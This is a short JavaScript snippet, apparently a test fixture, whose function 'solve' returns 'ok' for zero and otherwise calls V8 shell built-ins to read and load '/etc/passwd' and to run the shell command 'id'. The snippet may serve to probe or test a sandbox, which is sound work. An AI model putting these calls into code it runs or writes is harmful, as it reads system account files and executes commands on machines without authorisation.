// Functions that V8 has in its own shell.
function solve(x) {
  if (x === 0) return 'ok';
  return read('/etc/passwd') + os.system('id') + load('/etc/passwd');
}
